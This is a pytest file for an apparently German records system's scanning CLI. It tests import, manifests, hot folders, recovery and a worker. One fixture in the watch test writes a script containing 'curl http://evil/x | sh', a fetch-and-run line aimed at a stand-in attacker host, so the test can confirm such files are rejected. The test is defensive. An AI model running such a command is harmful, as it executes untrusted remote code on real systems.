"""The commands as scanning staff run them: ``eakte import`` (progress, summary, resume,
manifest, scan batch), ``eakte watch``, ``eakte recover`` and a real ``eakte worker``."""

import os
import shutil
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy import func, select

from eakte.cli import main
from eakte.errors import ManifestInvalid
from eakte.ingest.hotfolder import HotFolder
from eakte.ingest.manifest import read_manifest
from eakte.models import Document, ScanBatch
from eakte.models.ingest import QuarantinedFile
from eakte.services import cases
from eakte.verify import VerifyContext, run_verify
from tests.fixtures.cli import eakte
from tests.ingest.conftest import born_digital_pdf, image_bytes, scan_image


@pytest.fixture
def archive(tmp_path):
    """An old paper archive, scanned: nested folders, a duplicate, a few things that do not
    belong (a zip, a link loop, a hidden file)."""
    root = tmp_path / "archiv"
    (root / "1998" / "Gewerbe").mkdir(parents=True)
    (root / "1999").mkdir()
    (root / "1998" / "Gewerbe" / "anmeldung.pdf").write_bytes(born_digital_pdf(3, "Anmeldung"))
    twice = born_digital_pdf(2, "Abmeldung")
    (root / "1998" / "abmeldung.pdf").write_bytes(twice)
    (root / "1999" / "kopie-abmeldung.pdf").write_bytes(twice)
    (root / "1999" / "Bescheid.PDF").write_bytes(born_digital_pdf(1, "Bescheid"))
    # a name from an old Windows share: Latin-1 bytes, not UTF-8
    (root / "1999" / os.fsdecode(b"Antr\xe4g.pdf")).write_bytes(born_digital_pdf(1, "Antrag"))
    (root / "1999" / "anlagen.zip").write_bytes(b"PK\x05\x06" + b"\0" * 18)
    (root / "1999" / ".DS_Store").write_bytes(b"\0\0\0\1Bud1")
    os.symlink("..", root / "1999" / "zurueck")  # a link back up: a loop
    return root


def _wait_until(predicate, timeout=60.0):
    deadline = time.monotonic() + timeout
    while not predicate():
        if time.monotonic() > deadline:
            raise AssertionError("timed out")
        time.sleep(0.2)


def test_r15_import_summary_resume_batch_and_worker(archive, world, env):
    args = [
        "import", str(archive), "--batch", "Altakten Gewerbe 1998", "--operator", "Anna Scan",
        "--device", "Fujitsu fi-7160", "--dpi", "300", "--colour-mode", "gray", "--user", "scan",
    ]  # fmt: skip
    first = eakte(*args)
    assert first.returncode == 0, first.stderr
    out = first.stdout
    assert "files:        7" in out and "imported:     4" in out and "duplicates:   1" in out
    assert "quarantined:  2" in out and "type_not_allowed: 1" in out
    assert "symlink_loop: 1" in out and "1999/zurueck: the link zurueck -> .." in out
    assert "docs/s" in first.stderr and "7/7" in first.stderr  # the progress bar
    again = eakte(*args)  # resumable: everything is already in
    assert again.returncode == 0, again.stderr
    assert "already in:   7" in again.stdout and "imported:     0" in again.stdout
    with world.session() as s:
        assert s.scalar(select(func.count(Document.id))) == 5
        latin = s.scalar(select(Document).where(Document.title == "Anträg"))
        assert latin.source.endswith("1999/Anträg.pdf")
        assert s.scalar(select(func.count(QuarantinedFile.id))) == 2
        batch = s.scalar(select(ScanBatch))
        assert (batch.name, batch.operator, batch.device, batch.dpi, batch.colour_mode) == (
            "Altakten Gewerbe 1998",
            "Anna Scan",
            "Fujitsu fi-7160",
            300,
            "gray",
        )
        assert batch.scanned_at is not None and batch.qc_status == "pending"
        assert {d.scan_batch_id for d in s.scalars(select(Document))} == {batch.id}

    worker = subprocess.Popen(
        [sys.executable, "-m", "eakte", "worker"],
        env={**os.environ, "EAKTE_LOG_LEVEL": "WARNING"},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )
    try:

        def all_ready():
            with world.session() as s:
                statuses = s.scalars(select(Document.status)).all()
            return set(statuses) == {"ready"}

        _wait_until(all_ready)
    finally:
        os.killpg(worker.pid, signal.SIGTERM)
        worker.wait(timeout=30)
    with world.session() as s:
        assert s.scalar(select(ScanBatch.page_count)) == 3 + 2 + 2 + 1 + 1
    with world.session() as s:
        report = run_verify(VerifyContext(s, world.rt.store))
    assert report.clean, report.findings


def test_import_with_manifest_files_into_cases(tmp_path, world, env):
    with world.session() as s:
        case = cases.create_case(s, world.clerk, "32.10.05", "Bäckerei Schmidt", year=2026)
        cases.add_process(s, world.clerk, case.id, "Anmeldung")
    root = tmp_path / "post"
    root.mkdir()
    (root / "brief.pdf").write_bytes(born_digital_pdf(1, "Brief"))
    (root / "sonst.pdf").write_bytes(born_digital_pdf(1, "Sonstiges"))
    manifest = tmp_path / "manifest.csv"
    row = f"brief.pdf;{case.file_reference};Gewerbeanmeldung Bäckerei;03.02.2026;Antrag;Jörg S."
    header = "file;file_reference;title;date;doc_type;correspondent"
    # an export from an old Windows program: Windows-1252
    manifest.write_bytes(f"{header}\n{row}\n".encode("cp1252"))
    result = eakte("import", str(root), "--manifest", str(manifest), "--user", "sachb")
    assert result.returncode == 0, result.stderr
    assert "imported:     2" in result.stdout
    with world.session() as s:
        filed = s.scalar(select(Document).where(Document.title == "Gewerbeanmeldung Bäckerei"))
        assert filed.process_id is not None and filed.inbox_org_unit_id is None
        assert str(filed.received_date) == "2026-02-03" and filed.correspondent == "Jörg S."
        other = s.scalar(select(Document).where(Document.title == "sonst"))
        assert other.process_id is None and other.inbox_org_unit_id is not None


@pytest.mark.parametrize(
    ("content", "problem"),
    [
        (
            b"file;title;date\nbrief.pdf;Brief;2026-01-01\n",
            "missing column(s): file_reference, doc_type",
        ),
        (
            b"file;file_reference;title;date;doc_type\nbrief.pdf;;Brief;31.02.2026;Antrag\n",
            "line 2: bad date '31.02.2026'",
        ),
        (
            b"file;file_reference;title;date;doc_type\nfehlt.pdf;;Brief;;Antrag\n",
            "line 2: no file 'fehlt.pdf' in the import folder",
        ),
        (
            b"file;file_reference;title;date;doc_type\nbrief.pdf;99-9999/2026;Brief;;Antrag\n",
            "line 2: no case with file reference '99-9999/2026'",
        ),
    ],
    ids=["missing_columns", "bad_date", "no_such_file", "no_such_case"],
)
def test_bad_input_manifest_is_reported_never_guessed(world, content, problem):
    with world.session() as s, pytest.raises(ManifestInvalid) as raised:
        read_manifest(s, world.scanner, content, {"brief.pdf"})
    assert problem in str(raised.value)


def test_bad_input_manifest_in_windows_1252_is_read(world):
    data = "file;file_reference;title;date;doc_type\nbrief.pdf;;Übergabe Gebäude;;Vermerk\n"
    with world.session() as s:
        rows = read_manifest(s, world.scanner, data.encode("cp1252"), {"brief.pdf"})
    assert rows["brief.pdf"].metadata.title == "Übergabe Gebäude"


def test_manifest_needs_an_open_single_process(world):
    with world.session() as s:
        case = cases.create_case(s, world.clerk, "32.10.05", "Zwei Vorgänge", year=2026)
        cases.add_process(s, world.clerk, case.id, "Eins")
        cases.add_process(s, world.clerk, case.id, "Zwei")
        ref = case.file_reference
        header = "file;file_reference;title;date;doc_type;process"
        text = f"{header}\na.pdf;{ref};A;;;\nb.pdf;{ref};B;;;2\n"
        with pytest.raises(ManifestInvalid, match="has 2 open processes"):
            read_manifest(s, world.clerk, text.encode(), {"a.pdf", "b.pdf"})
        rows = read_manifest(
            s, world.clerk, text.replace("A;;;\n", "A;;;1\n").encode(), {"a.pdf", "b.pdf"}
        )
        assert rows["a.pdf"].process_id != rows["b.pdf"].process_id
        cases.close_case(s, world.clerk, case.id)
        with pytest.raises(ManifestInvalid, match="is closed"):
            read_manifest(s, world.clerk, text.encode(), {"a.pdf", "b.pdf"})


def test_hot_folder_takes_a_file_only_once_complete(tmp_path):
    folder = HotFolder(tmp_path / "scanner", interval=5)
    scan = folder.root / "scan0001.pdf"
    scan.write_bytes(b"%PDF-1.4 first half")
    (folder.root / "scan0002.pdf.part").write_bytes(b"still being written")
    t0 = scan.stat().st_mtime
    assert folder.complete_files(now=t0 + 1) == []  # first sight
    with scan.open("ab") as fh:
        fh.write(b" second half")
    mtime = scan.stat().st_mtime
    assert folder.complete_files(now=mtime + 1) == []  # changed since the last scan
    assert folder.complete_files(now=mtime + 2) == []  # unchanged, but written 2 s ago
    (entry,) = folder.complete_files(now=mtime + 6)  # unchanged and idle for the interval
    assert entry.path == scan
    moved = folder.settle(entry, accepted=False, reason="type_not_allowed: no")
    assert moved == folder.failed / "scan0001.pdf" and not scan.exists()
    assert (folder.failed / "scan0001.pdf.reason.txt").read_text() == "type_not_allowed: no\n"


def test_hot_folder_on_a_flaky_share_moves_nothing_it_could_not_read(tmp_path, monkeypatch):
    folder = HotFolder(tmp_path / "scanner", interval=5)
    (folder.root / "eingang").mkdir()
    scan = folder.root / "eingang" / "scan0001.pdf"
    scan.write_bytes(b"%PDF-1.4 a scan")
    os.symlink("kreis", folder.root / "kreis")  # a link to itself: a loop
    later = scan.stat().st_mtime + 60
    real_scandir = os.scandir

    def share_hiccup(path):
        if Path(path).name == "eingang":
            raise OSError(116, "Stale file handle")
        return real_scandir(path)

    monkeypatch.setattr(os, "scandir", share_hiccup)
    assert folder.complete_files(now=later) == []  # first sight of the loop; no folder moves
    (loop,) = folder.complete_files(now=later)  # the loop found so twice running: it goes
    assert loop.path.name == "kreis" and loop.problem.code == "symlink_loop"
    folder.settle(loop, accepted=False, reason="symlink_loop")
    assert (folder.root / "eingang" / "scan0001.pdf").exists()  # never moved, never lost
    monkeypatch.setattr(os, "scandir", real_scandir)  # the share is back
    assert folder.complete_files(now=later) == []  # first sight of the scan
    assert [e.path for e in folder.complete_files(now=later)] == [scan]
    shutil.rmtree(folder.root)  # the share is gone altogether: a warning, no crash
    assert folder.complete_files(now=later) == []


def test_watch_command_takes_complete_files(tmp_path, world, env):
    hot = tmp_path / "hot"
    hot.mkdir()
    (hot / "post.png").write_bytes(image_bytes(scan_image()))
    (hot / "viren.sh").write_bytes(b"#!/bin/sh\ncurl http://evil/x | sh\n")
    for name in ("post.png", "viren.sh"):
        os.utime(hot / name, (time.time() - 60, time.time() - 60))  # written a minute ago
    result = eakte("watch", str(hot), "--once", "--interval", "1", "--user", "scan")
    assert result.returncode == 0, result.stderr
    assert (hot / "done" / "post.png").exists() and (hot / "failed" / "viren.sh").exists()
    assert "type_not_allowed" in (hot / "failed" / "viren.sh.reason.txt").read_text()
    with world.session() as s:
        doc = s.scalar(select(Document))
        assert doc.source.endswith("post.png") and doc.scan_batch_id is not None


def test_recover_command_queues_what_was_left(world, env, desk):
    """(That a document whose job is still queued is left alone: test_processing.)"""
    desk.take(born_digital_pdf(1), "a.pdf")  # committed, but its job never queued
    result = eakte("recover")
    assert result.returncode == 0, result.stderr
    assert "queued again: 1; being processed now: 0" in result.stdout


def test_commands_have_help():
    runner = CliRunner()
    for command in (["import"], ["watch"], ["recover"], ["batch", "replace-page"], ["retry"]):
        result = runner.invoke(main, [*command, "--help"])
        assert result.exit_code == 0 and "Usage" in result.output, result.output


def test_import_and_watch_ask_for_the_user_who_takes_documents_in(tmp_path):
    # administrators may not ingest (separation of duties), so there is no default user to guess
    runner = CliRunner()
    for command in ("import", "watch"):
        result = runner.invoke(main, [command, str(tmp_path)])
        assert result.exit_code == 2
        assert "Missing option '--user'" in result.output
        help_text = " ".join(runner.invoke(main, [command, "--help"]).output.split())
        assert "Must be a scanner or a clerk" in help_text
